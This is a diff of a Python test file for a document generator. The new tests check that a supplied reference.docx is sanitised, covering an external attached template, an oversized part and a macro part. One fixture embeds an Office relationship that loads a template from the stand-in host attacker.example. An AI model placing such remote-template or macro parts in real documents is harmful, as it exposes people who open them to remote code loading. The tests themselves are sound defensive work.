@@ -182,3 +182,67 @@ def test_a_template_passing_an_object_to_a_message_is_refused(project):
         handle.write('leak: {en: "x {v} y", zh-Hant: "{v}"}\n')
     override(project, '{{ t("leak", v=doc) }}')
     both(project, f"{GENERAL}/brief.html.j2:2:1", "not BriefView")
+
+
+# -- 3. the reference document is sanitised -------------------------------------------
+
+REFERENCE = GENERAL / "reference.docx"
+EXTERNAL_TEMPLATE = (
+    '<Relationship Id="rId99" Target="http://attacker.example/t.dotm" TargetMode="External" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+)
+
+
+def rewrite_reference(project: Path, change) -> None:
+    """The audience's own reference.docx: the base one with `change(name, data)` applied."""
+    base = project / "templates" / "docx" / "reference.docx"
+    with zipfile.ZipFile(base) as source, zipfile.ZipFile(project / REFERENCE, "w") as target:
+        for info in source.infolist():
+            data = change(info.filename, source.read(info))
+            if data is not None:
+                target.writestr(info, data)
+        extra = change("(new)", b"")
+        if extra:
+            target.writestr(*extra, compress_type=zipfile.ZIP_DEFLATED)
+
+
+def test_an_external_attached_template_is_refused(project):
+    def change(name, data):
+        if name == "word/settings.xml":
+            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
+        if name == "(new)":
+            rels = (
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+                'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                f"{EXTERNAL_TEMPLATE}</Relationships>"
+            )
+            return "word/_rels/settings.xml.rels", rels
+        return data
+
+    rewrite_reference(project, change)
+    both(project, f"{REFERENCE}:1:1", "part word/_rels/settings.xml.rels (line 2)")
+    assert "attacker.example" not in output_text(project / "build")
+
+
+def test_a_reference_holding_a_huge_part_is_refused_before_unpacking(project):
+    def change(name, data):
+        return ("word/header1.xml", b"\0" * 50_000_000) if name == "(new)" else data
+
+    rewrite_reference(project, change)
+    both(project, f"{REFERENCE}:1:1", "part word/header1.xml unpacks")
+
+
+def test_a_reference_keeps_only_the_parts_a_reference_needs(project):
+    from briefgen.writers.docx.reference import sanitised_reference
+
+    def change(name, data):
+        return ("word/vbaProject.bin", PAYLOAD.encode()) if name == "(new)" else data
+
+    rewrite_reference(project, change)
+    with zipfile.ZipFile(sanitised_reference(project / REFERENCE)) as package:
+        names = package.namelist()
+    assert "word/vbaProject.bin" not in names
+    assert {"word/styles.xml", "word/numbering.xml", "word/settings.xml"} <= set(names)
+    result = run(project, "build", "--out", "build", "--format", "docx")
+    assert result.returncode == 0, result.stderr
+    assert PAYLOAD not in output_text(project / "build")
